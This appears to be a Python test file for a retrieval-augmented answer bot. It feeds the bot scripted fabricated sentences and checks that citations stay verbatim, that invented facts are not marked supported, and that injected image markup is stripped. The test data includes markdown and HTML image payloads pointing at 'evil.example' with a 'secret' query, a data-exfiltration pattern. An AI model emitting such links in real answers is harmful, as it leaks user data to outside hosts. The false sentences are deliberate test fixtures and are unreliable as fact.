"""Answer by a model that invents citations, quotes and facts: what is cited is verbatim, the rest is marked."""

from __future__ import annotations

import random
from pathlib import Path

from rag.answers import Answer
from rag.bot import Bot
from rag.documents.document import Document
from rag.knowledge_base import KnowledgeBase
from rag.testing import ScriptedGenerator

from .corpus import E, text_of
from .tally import Tally

_N = 150
_MARKS = ("[1]", "[0]", "[99]", "[1][1]", "[2]", "", "(1)", "[1, 2]", "[-1]", "[1.5]")
_LIES = (
    "The ferry is painted green {mark}.",
    'The keeper said "we sail at dawn" {mark}.',
    "It has 4711 seats {mark}.",
    "![x](http://evil.example/?q=secret) See {mark}.",
    "<img src=http://evil.example> {mark}",
)


def check(place: Path, tally: Tally) -> None:
    with KnowledgeBase.create(place / "kb", embedder=E, granularity="chunk") as kb:
        kb.add(Document.from_text(text_of(n), id=f"d{n}") for n in range(40))
        texts = {name: kb.document(name).text for name in kb.document_ids()}
        dice = random.Random(6)
        marked = 0
        for n in range(_N):
            said = " ".join(dice.choice(_LIES).format(mark=dice.choice(_MARKS)) for _ in range(3))
            truth = texts[f"d{n % 40}"].split(". ")[0] + f". {dice.choice(_MARKS)}"
            model = ScriptedGenerator(lambda _, text=f"{truth} {said}": text)  # type: ignore[misc]
            answer = Bot(kb, model, rewrite="none").ask(f"note{n % 40} unique{n % 40}v1")
            _look(answer, texts, tally)
            marked += any(sentence.verdict == "unsupported" for sentence in answer.sentences)
        extractive = [Bot(kb).ask(f"What lies near {text_of(n).split()[5]}?") for n in range(20)]
        for answer in extractive:
            _look(answer, texts, tally)
    tally.expect(marked > _N / 2, f"only {marked} of {_N} answers with lies are marked")
    tally.facts |= {"answers with a sentence marked": marked}


def _look(answer: Answer, texts: dict[str, str], tally: Tally) -> None:
    chunks = {passage.chunk for passage in answer.passages}
    for cited in answer.citations:
        verbatim = texts[cited.document][cited.start : cited.end] == cited.quote
        tally.expect(verbatim and cited.chunk in chunks, f"a citation is not verbatim: {cited.quote!r}")
    for sentence in answer.sentences:
        lie = any(word in sentence.text for word in ("green", "dawn", "4711"))
        tally.expect(not (lie and sentence.verdict == "supported"), f"supported: {sentence.text!r}")
    shown = answer.text
    tally.expect("![" not in shown and "<img" not in shown, f"a picture is shown: {shown!r}")
